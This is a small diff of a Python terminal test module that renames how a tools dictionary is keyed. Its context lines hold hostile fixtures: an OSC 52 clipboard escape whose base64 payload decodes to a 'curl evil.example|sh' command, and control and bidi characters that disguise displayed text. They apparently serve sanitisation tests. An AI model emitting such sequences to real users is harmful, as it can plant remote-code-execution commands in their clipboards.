@@ -29,7 +29,7 @@ from tests.terminal.test_conversation import Evening
 ORDERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]|\x1b")
 CLIPBOARD = "ok\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2gK\adone"
 MOVES = "safe text\rEVIL\x9b2J\b\b\bx\x0e\x7f\u202e\u200bend"
-TOOLS = {tool.spec.name: tool for tool in builtin()}
+TOOLS = {tool.name: tool for tool in builtin()}
 Evenings = Callable[..., Evening]
 
 
